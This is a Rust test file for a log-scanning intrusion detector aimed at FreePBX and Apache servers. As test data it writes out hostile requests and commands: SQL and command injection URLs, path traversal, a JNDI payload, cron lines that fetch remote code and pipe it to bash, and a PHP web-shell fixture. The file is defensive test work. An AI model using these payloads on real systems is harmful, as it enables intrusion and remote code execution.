#![allow(clippy::unwrap_used, clippy::indexing_slicing, clippy::format_collect)]

use super::*;
use crate::detect::testing::{Scene, ids};
use crate::detect::{Detectors, RuleSource};
use crate::model::{Evidence, FileKind, FileMeta, Mode, Timestamp};
use std::fmt::Write as _;

const ACCESS: &str = "/var/log/apache2/access.log";

/// A line of an access log, `minute` minutes after eight.
fn line(minute: u32, client: &str, request: &str, status: u16) -> String {
    let (hour, minute) = (8 + minute / 60, minute % 60);
    format!(
        "{client} - - [23/Nov/2026:{hour:02}:{minute:02}:00 +0100] \"{request} HTTP/1.1\" {status} 12 \"-\" \"Mozilla/5.0\"\n"
    )
}

fn judge(scene: &Scene) -> Vec<Finding> {
    scene.judge(LogDetector::new(SigmaSet::builtin())).value
}

fn of(request: &str, status: u16) -> Vec<String> {
    ids(&judge(&Scene::new().file(ACCESS, line(0, "198.51.100.7", request, status))))
}

fn told(finding: &Finding) -> String {
    let mut text = String::new();
    for evidence in &finding.evidence {
        match evidence {
            Evidence::Attribute { name, value } => writeln!(text, "{name}: {value}").unwrap(),
            Evidence::Line { line, text: value } => writeln!(text, "line {line}: {value}").unwrap(),
            other => panic!("{other:?}"),
        }
    }
    text
}

const ENDPOINT: &str = r"GET /admin/ajax.php?module=FreePBX\modules\endpoint\ajax&command=model&template=x&model=model&brand=x'%20;INSERT%20INTO%20cron_jobs%20(modulename)";

#[test]
fn an_answered_exploit_is_an_incident_and_a_refused_one_is_a_probe() {
    assert_eq!(of(ENDPOINT, 500), ["TR-LOG-0102 critical", "TR-LOG-0101 high"]);
    assert_eq!(of(ENDPOINT, 403), ["TR-LOG-0101 low", "TR-LOG-0102 low"]);
    assert_eq!(of("POST /modular.php", 404), ["TR-LOG-0103 low"]);
    assert_eq!(of("POST /modular.php", 200), ["TR-LOG-0103 high"]);
    assert_eq!(of("POST /modular.php", 302), ["TR-LOG-0103 medium"]);
    assert_eq!(of("GET /modular.php", 200), Vec::<String>::new());
}

#[test]
fn escapes_of_the_client_and_of_the_server_hide_nothing() {
    for module in [
        r"FreePBX\modules\endpoint\ajax",
        r"FreePBX\\modules\\endpoint\\ajax",
        "FreePBX%5Cmodules%5Cendpoint%5Cajax",
        "FreePBX%5cmodules%5cendpoint%5cajax",
        "FreePBX%255cmodules%255cendpoint%255cajax",
        r"%46reePBX\x5cmodules\x5cendpoint\x5cajax",
    ] {
        let request = format!("GET /admin/ajax.php?module={module}&command=model");
        assert_eq!(of(&request, 500), ["TR-LOG-0101 high"], "{module}");
    }
    assert_eq!(
        of("GET /admin/ajax.php?module=endpoint&command=model&brand=a%2527%2520UNION%2520SELECT", 200),
        ["TR-LOG-0102 critical"]
    );
}

/// Each of these stands in FREEPBX's list of patterns; none of the honest ones does.
#[test]
fn every_published_pattern_is_found_by_its_rule() {
    for (request, rule) in [
        (
            "GET /admin/ajax.php?module=filestore&command=testconnection&driver=SSH&host=x&user=y&port=22&key=%60id%60&path=/",
            "TR-LOG-0105",
        ),
        ("GET /admin/ajax.php?module=filestore&command=testconnection&driver=SSH&host=x&key=/x&path=/", "TR-LOG-0106"),
        ("POST /admin/ajax.php?module=endpoint&command=upload_cust_fw", "TR-LOG-0107"),
        ("GET /admin/views/ajax.php", "TR-LOG-0109"),
        ("POST /admin/modules/freepbx_ha/license.php", "TR-LOG-0109"),
        ("GET /admin/modules/phones/ajax.php?md5=cf710203400b8c466e6dfcafcf36a411", "TR-LOG-0110"),
        ("GET /a.php?call=1&num=0037129123456&context=from-internal&time=9", "TR-LOG-0111"),
        (
            "GET /restapps/applications.php?linestate=x&user=100%0AContext:x%0AAction:%20Originate%0AChannel:Local/DONTCALL@macro-dial",
            "TR-LOG-0112",
        ),
        ("GET /gbr.php", "TR-LOG-0113"),
        (
            "GET /recordings/misc/callme_page.php?action=c&callmenum=100@from-internal/n%0D%0AApplication:%20system",
            "TR-LOG-0114",
        ),
        ("GET /admin/config.php?handler=api&file=x&module=y&function=system&args=id", "TR-LOG-0115"),
        ("GET /Ultimatex.php", "TR-LOG-0116"),
        ("GET /x.php?u=http://45.95.147.178/k.php", "TR-LOG-0117"),
        ("POST /uploads/2026/a.php", "TR-LOG-0151"),
        ("GET /b374k.php", "TR-LOG-0152"),
        ("GET /x.php?c=cd%20/tmp;wget+http://192.0.2.1/x", "TR-LOG-0153"),
        ("GET /x.php?f=../../../../etc/passwd", "TR-LOG-0154"),
        ("POST /x.php?%2Dd+allow_url_include%3don", "TR-LOG-0155"),
        ("GET /?x=${jndi:ldap://192.0.2.1/a}", "TR-LOG-0156"),
        ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "TR-LOG-0157"),
        ("GET /t-watchTowr-1.php", "TR-LOG-0104"),
    ] {
        let found = of(request, 200);
        assert!(found.iter().any(|found| found.starts_with(rule)), "{request}: {found:?}");
    }
    assert_eq!(ids(&judge(&Scene::new().file(ACCESS, line(0, "45.95.147.178", "GET /", 200)))), ["TR-LOG-0118 medium"]);
}

#[test]
fn an_administrators_day_is_no_finding() {
    let mut log = String::new();
    for (minute, request, status) in [
        (0, "GET /admin/config.php", 200),
        (1, "POST /admin/config.php", 302),
        (2, "GET /admin/config.php?display=extensions&tech_hardware=pjsip_generic", 200),
        (3, "GET /admin/ajax.php?module=core&command=getExtensionGrid&type=all&order=asc", 200),
        (4, "POST /admin/ajax.php?module=framework&command=scheduler", 200),
        (5, "GET /admin/config.php?display=endpoint&view=mainstart&id=12", 200),
        (6, "GET /admin/assets/js/jquery-3.6.0.min.js?load_version=17.0.19.27", 200),
        (7, "GET /admin/ajax.php?module=cdr&command=getTopDestinations&search=a%20b+c", 200),
        (8, "GET /ucp/index.php?display=dashboard&mod=home&poll=1", 200),
        (9, "POST /ucp/ajax.php?module=voicemail&command=gethtml5", 200),
        (10, "GET /admin/views/panel.png", 200),
        (11, "GET /robots.txt", 404),
    ] {
        log += &line(minute, "192.168.1.20", request, status);
    }
    assert_eq!(ids(&judge(&Scene::new().file(ACCESS, log))), Vec::<String>::new());
}

#[test]
fn a_finding_tells_when_from_where_how_often_and_what_followed() {
    let mut log = line(0, "203.0.113.1", ENDPOINT, 403);
    for n in 0..3 {
        log += &line(10 + n, "198.51.100.7", ENDPOINT, 500);
    }
    log += &line(14, "198.51.100.7", "POST /admin/config.php", 302);
    log += &line(15, "198.51.100.7", "GET /admin/config.php?display=ampusers", 200);
    log += &line(15, "203.0.113.1", "GET /admin/config.php?display=ampusers", 200);
    let found = judge(
        &Scene::new()
            .file(ACCESS, log)
            .file("/var/log/apache2/access.log.1", line(0, "198.51.100.7", "POST /modular.php", 200)),
    );
    let endpoint = found.iter().find(|finding| finding.rule.0 == "TR-LOG-0101").unwrap();
    let text = told(endpoint);
    for part in [
        "lines: 3 answered, 0 unclear, 1 refused",
        "first_seen: 23/Nov/2026:08:00:00 +0100",
        "last_seen: 23/Nov/2026:08:12:00 +0100",
        "sources: 198.51.100.7 (3), 203.0.113.1 (1)",
        "answered: 198.51.100.7 (3)",
        "line 2: 198.51.100.7 - - ",
        "decoded: /admin/ajax.php?module=FreePBX\\\\modules\\\\endpoint",
        "afterwards: 198.51.100.7: 4 more requests in 5 min: ",
        "GET /admin/config.php?display=ampusers 200 (1)",
    ] {
        assert!(text.contains(part), "{part}\n{text}");
    }
    assert_eq!(endpoint.subject.path().as_bytes(), ACCESS.as_bytes());
    let rotated = found.iter().find(|finding| finding.rule.0 == "TR-LOG-0103").unwrap();
    assert_eq!(rotated.subject.path().as_bytes(), ACCESS.as_bytes(), "a rotation belongs to its log");
    assert!(told(rotated).contains("line: /var/log/apache2/access.log.1:1: 198.51.100.7"), "{}", told(rotated));
}

#[test]
fn a_flood_of_attacks_is_one_finding_with_few_lines() {
    let log: String =
        (0..20_000).map(|n| line(n % 600, &format!("198.51.{}.{}", n / 250 % 250, n % 250), ENDPOINT, 500)).collect();
    let found = judge(&Scene::new().file(ACCESS, log));
    assert!(found.iter().filter(|finding| finding.rule.0 == "TR-LOG-0101").count() == 1);
    let text = told(found.iter().find(|finding| finding.rule.0 == "TR-LOG-0101").unwrap());
    assert!(text.contains("lines: 20000\n") && text.contains("more"), "{text}");
    assert!(text.len() < 8000, "{}", text.len());
}

#[test]
fn terminal_sequences_in_a_request_do_not_reach_the_text() {
    let found = judge(&Scene::new().file(ACCESS, line(0, "198.51.100.7", "POST /modular.php?\u{1b}[2J%1b%5b2J", 200)));
    assert!(!told(&found[0]).contains('\u{1b}'));
}

#[test]
fn a_shell_that_another_detector_found_is_told_with_its_use() {
    let shell = b"<?php exit; // inert\n system($_GET['c']);";
    let content = [shell.as_slice(), b"\nmd5($_REQUEST['md5'])=='cf710203400b8c466e6dfcafcf36a411'"].concat();
    let log = line(0, "198.51.100.7", "POST /images/x.php", 200) + &line(1, "198.51.100.9", "GET /images/x.php", 404);
    let scene = Scene::new().file("/var/www/html/images/x.php", content).file(ACCESS, log);
    let found = scene.findings();
    let used =
        found.iter().find(|finding| finding.rule.0 == "TR-LOG-0601").unwrap_or_else(|| panic!("{:?}", ids(&found)));
    assert_eq!(used.subject.path().as_bytes(), b"/var/www/html/images/x.php");
    let text = told(used);
    assert!(
        text.contains("requests: 1 answered, 1 of them posted") && text.contains("sources: 198.51.100.7 (1)"),
        "{text}"
    );
}

#[test]
fn packed_and_windowed_logs_are_read_like_others() {
    let log: String = (0..2000).map(|n| line(n % 600, "192.0.2.7", "GET /index.php?x=1", 200)).collect::<String>()
        + &line(1, "198.51.100.7", ENDPOINT, 500);
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut encoder, log.as_bytes()).unwrap();
    let gzip = encoder.finish().unwrap();
    let zstd = zstd::encode_all(log.as_bytes(), 3).unwrap();
    let path = EvidencePath::new("/var/log/apache2/access.log.2").unwrap();
    let meta = FileMeta::bare(FileKind::File, Mode::new(0o640), 0);
    let expected = ids(&judge(&Scene::new().file("/var/log/apache2/access.log.2", &log)));
    assert!(expected.contains(&"TR-LOG-0101 high".to_owned()), "{expected:?}");
    for bytes in [log.as_bytes(), &gzip, &zstd] {
        let detector = LogDetector::new(SigmaSet::builtin());
        let mut report = Report::default();
        let mut at = 0;
        let size = 1000;
        while let Some(rest) = bytes.get(at..).filter(|rest| !rest.is_empty()) {
            let part = rest.get(..size).unwrap_or(rest);
            let file = Swept { path: &path, meta: &meta, sha256: None, content: None };
            detector.inspect_window(
                &Window { file, offset: at as u64, lines_before: 0, bytes: part, is_last: false },
                &mut report,
            );
            if part.len() == rest.len() {
                break;
            }
            at += size - 100;
        }
        detector.inspect(&Swept { path: &path, meta: &meta, sha256: None, content: None }, &mut report);
        detector.conclude(&HostContext { is_host: false, gaps: &[], selects: &|_| true }, &mut report);
        let mut found = ids(&report.findings);
        found.sort();
        let mut expected = expected.clone();
        expected.sort();
        assert_eq!((found, report.gaps), (expected, Vec::new()));
    }
}

#[test]
fn logins_jobs_and_accounts_are_judged() {
    let auth = |text: &str| ids(&judge(&Scene::new().file("/var/log/auth.log", text)));
    let at = "Jan  2 03:04:05 pbx";
    assert_eq!(
        auth(&format!("{at} useradd[1]: new user: name=x, UID=0, GID=0, home=/x, shell=/bin/sh\n")),
        ["TR-LOG-0201 high"]
    );
    assert_eq!(
        auth(&format!("{at} useradd[1]: new user: name=eve, UID=1001, GID=1001, home=/x, shell=/bin/sh\n")),
        Vec::<String>::new()
    );
    assert_eq!(
        auth(&format!("{at} useradd[1]: new user: name=sugarmaint, UID=1001, GID=0\n")),
        ["TR-LOG-0202 critical"]
    );
    assert_eq!(
        auth(&format!("{at} sudo: www-data : TTY=unknown ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c id\n")),
        ["TR-LOG-0204 medium"]
    );
    assert_eq!(
        auth(&format!("{at} sudo: eve : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash\n")),
        Vec::<String>::new()
    );
    let failed = format!("{at} sshd[1]: Failed password for root from 198.51.100.7 port 1 ssh2\n").repeat(40);
    let accepted = format!("{at} sshd[1]: Accepted password for root from 198.51.100.7 port 1 ssh2\n");
    assert_eq!(auth(&(failed.clone() + &accepted)), ["TR-LOG-0611 high"]);
    assert_eq!(auth(&failed), Vec::<String>::new());
    let removed: String =
        ["a", "b", "c"].iter().map(|name| format!("{at} userdel[1]: delete user '{name}'\n")).collect();
    assert_eq!(auth(&removed), ["TR-LOG-0612 medium"]);
    let cron = |command: &str| {
        ids(&judge(&Scene::new().file("/var/log/cron", format!("{at} CROND[1]: (root) CMD ({command})\n"))))
    };
    assert_eq!(cron("wget -q http://192.0.2.1/k -O /x && bash /x"), ["TR-LOG-0221 high"]);
    assert_eq!(cron("echo aWQ= | base64 -d | bash"), ["TR-LOG-0222 high"]);
    assert_eq!(cron("bash /var/lib/asterisk/bin/zen2"), ["TR-LOG-0223 critical"]);
    assert_eq!(
        cron("[ -e /usr/sbin/fwconsole ] && sleep $((RANDOM%30)) && /usr/sbin/fwconsole job --run --quiet"),
        Vec::<String>::new()
    );
}

#[test]
fn the_time_of_each_kind_of_log_is_told_as_it_is_written() {
    for (path, text, time) in [
        ("/var/log/auth.log", "Jan  2 03:04:05 pbx useradd[1]: new user: name=x, UID=0, GID=0\n", "Jan  2 03:04:05"),
        (
            "/var/log/auth.log",
            "2026-01-02T03:04:05.5+01:00 pbx useradd[1]: new user: name=x, UID=0, GID=0\n",
            "2026-01-02T03:04:05.5+01:00",
        ),
        (
            "/var/log/apache2/error.log",
            "[Fri Jan 02 03:04:05.1 2026] [x:error] /admin/modules/endpoint/views/model.php\n",
            "Fri Jan 02 03:04:05.1 2026",
        ),
        (
            "/var/log/nginx/error.log",
            "2026/01/02 03:04:05 [error] /admin/modules/endpoint/views/model.php\n",
            "2026/01/02 03:04:05",
        ),
        (
            "/var/log/asterisk/full",
            "[2026-01-02 03:04:05] VERBOSE[1] x.c: Local/DONTCALL@macro-dial\n",
            "2026-01-02 03:04:05",
        ),
    ] {
        let found = judge(&Scene::new().file(path, text));
        assert!(told(&found[0]).contains(&format!("first_seen: {time}\n")), "{}", told(&found[0]));
    }
}

#[test]
fn error_logs_and_logs_of_asterisk_are_judged() {
    let of = |path: &str, text: &str| ids(&judge(&Scene::new().file(path, text)));
    let error = "[Fri Jan 02 03:04:05.1 2026] [php:error] [pid 1] [client 198.51.100.7:1] PHP Fatal error: x in /var/www/html/admin/modules/endpoint/views/model.php:144\n";
    assert_eq!(of("/var/log/apache2/error.log", error), ["TR-LOG-0301 high"]);
    assert_eq!(of("/var/log/httpd/error_log", "--2026-01-02 03:04:05--  http://192.0.2.1/x\n"), ["TR-LOG-0302 medium"]);
    let full = "[2026-01-02 03:04:05] VERBOSE[1][C-1] pbx.c: Executing [s@x:1] System(\"PJSIP/1\", \"wget -q http://192.0.2.1/x\")\n";
    assert_eq!(of("/var/log/asterisk/full", full), ["TR-LOG-0401 high"]);
    assert_eq!(
        of(
            "/var/log/asterisk/full",
            "[2026-01-02 03:04:05] VERBOSE[1] manager.c: == Manager 'admin' logged on from 127.0.0.1\n"
        ),
        Vec::<String>::new()
    );
    assert_eq!(
        of("/var/log/asterisk/freepbx.log", "[2026-Jan-02 03:04:05] [NOTIFICATION]-[freepbx]-[FW_TAMPERED] - x\n"),
        ["TR-LOG-0411 low"]
    );
}

#[test]
fn missing_rotations_empty_logs_and_zeroed_logins_are_told_as_what_they_are() {
    let one = line(0, "192.0.2.7", "GET /", 200);
    let mut scene = Scene::new();
    for name in ["access.log", "access.log.1", "access.log.2.gz", "access.log.5.gz"] {
        scene = scene.file(&format!("/var/log/apache2/{name}"), &one);
    }
    let found = judge(&scene);
    assert_eq!(ids(&found), ["TR-LOG-0505 low"]);
    assert!(told(&found[0]).contains("missing: 3, 4"));
    let at = |seconds| move |meta: &mut FileMeta| meta.mtime = Some(Timestamp::new(seconds, 0));
    let emptied = Scene::new()
        .file_with("/var/log/apache2/access.log", "", 0o640, at(1_000_000))
        .file_with("/var/log/apache2/access.log.1", one.repeat(9), 0o640, at(999_000))
        .file_with("/var/log/apache2/error.log", "x\n", 0o640, at(2_000_000));
    assert_eq!(ids(&judge(&emptied)), ["TR-LOG-0504 low"]);
    let fresh = Scene::new()
        .file_with("/var/log/apache2/access.log", "", 0o640, at(1_990_000))
        .file_with("/var/log/apache2/access.log.1", one.repeat(9), 0o640, at(1_990_000))
        .file_with("/var/log/apache2/error.log", "x\n", 0o640, at(2_000_000));
    assert_eq!(ids(&judge(&fresh)), Vec::<String>::new());
    let zeros = [vec![0; 4096], one.into_bytes()].concat();
    assert_eq!(ids(&judge(&Scene::new().file(ACCESS, zeros))), ["TR-LOG-0503 low"]);
}

#[test]
fn dated_rotations_that_are_even_but_for_one_are_told() {
    let names = |days: &[&str]| {
        let one = line(0, "192.0.2.7", "GET /", 200);
        let scene =
            days.iter().fold(Scene::new(), |scene, day| scene.file(&format!("/var/log/httpd/access_log-{day}"), &one));
        ids(&judge(&scene))
    };
    assert_eq!(names(&["20260104", "20260111", "20260118", "20260125", "20260201"]), Vec::<String>::new());
    assert_eq!(names(&["20260104", "20260111", "20260118", "20260201", "20260208"]), ["TR-LOG-0505 low"]);
}

#[test]
fn a_log_that_has_to_be_there_and_is_not_is_told() {
    let scene = Scene::new()
        .file("/etc/rsyslog.conf", "x")
        .file("/var/log/apache2/access.log", line(0, "192.0.2.7", "GET /", 200));
    assert_eq!(ids(&judge(&scene)), ["TR-LOG-0506 low"]);
    assert_eq!(ids(&judge(&scene.file("/var/log/auth.log.1", "x\n"))), Vec::<String>::new());
}

#[test]
fn logs_of_another_format_are_a_gap() {
    let json = "{\"remote_addr\":\"192.0.2.7\",\"request\":\"GET /\"}\n".repeat(50);
    let outcome = Scene::new().file(ACCESS, json).judge(LogDetector::new(SigmaSet::builtin()));
    assert_eq!((outcome.value.len(), outcome.gaps.len()), (0, 1));
    assert!(outcome.gaps[0].detail.contains("50 of 50 lines"));
}

#[test]
fn rules_of_others_run_as_they_are() {
    let text = "title: Suspicious Agent\nid: 5f0c1aa0-9d0c-5a8f-a0a5-6a3a4f8a1f3c\nlogsource:\n  category: webserver\ndetection:\n  selection:\n    cs-user-agent|contains: sqlmap\n  filter:\n    c-ip|cidr: 192.168.0.0/16\n  condition: selection and not filter\nlevel: high\ntags: [attack.initial_access, attack.t1190]\n";
    let (rules, problems) = SigmaSet::compile(&[RuleSource { name: "web_sqlmap.yml".into(), text: text.into() }]);
    assert_eq!(problems, []);
    let log = |client: &str, status: u16| line(0, client, "GET /x", status).replace("Mozilla/5.0", "SQLmap/1.8");
    let judge = |log: String| ids(&Scene::new().file(ACCESS, log).judge(LogDetector::new(rules.clone())).value);
    assert_eq!(judge(log("198.51.100.7", 200)), ["web_sqlmap high"]);
    assert_eq!(judge(log("198.51.100.7", 404)), ["web_sqlmap low"]);
    assert_eq!(judge(log("192.168.1.7", 200)), Vec::<String>::new());
}

#[test]
fn logs_belong_to_what_every_scan_reads() {
    assert!(crate::detect::wants(&EvidencePath::new("/var/log/httpd/access_log-20260104.gz").unwrap()));
}

#[test]
fn signs_in_a_log_do_not_add_up() {
    let log = line(0, "198.51.100.7", ENDPOINT, 403)
        + &line(1, "198.51.100.7", "POST /modular.php", 404)
        + &line(2, "198.51.100.7", "GET /c99.php", 404);
    let detectors = Detectors::new(vec![Box::new(LogDetector::new(SigmaSet::builtin()))]);
    let found = Scene::new().file(ACCESS, log).findings_of(detectors);
    assert!(found.iter().all(|finding| finding.severity <= Severity::Low), "{:?}", ids(&found));
}

#[test]
fn a_rotated_journal_belongs_to_its_log_in_the_order_of_time() {
    let of = |name: &str| log_of(&EvidencePath::new(format!("/var/log/journal/0a/{name}")).unwrap());
    let (log, now) = of("system.journal");
    let (older_log, older) = of("system@0123456789abcdef0123456789abcdef-0000000000000001-000600a1b2c3d4e5.journal");
    let (_, newer) = of("system@0123456789abcdef0123456789abcdef-0000000000000900-000600a2b2c3d4e5.journal");
    assert_eq!(log, older_log);
    assert!(older < newer && newer < now);
}
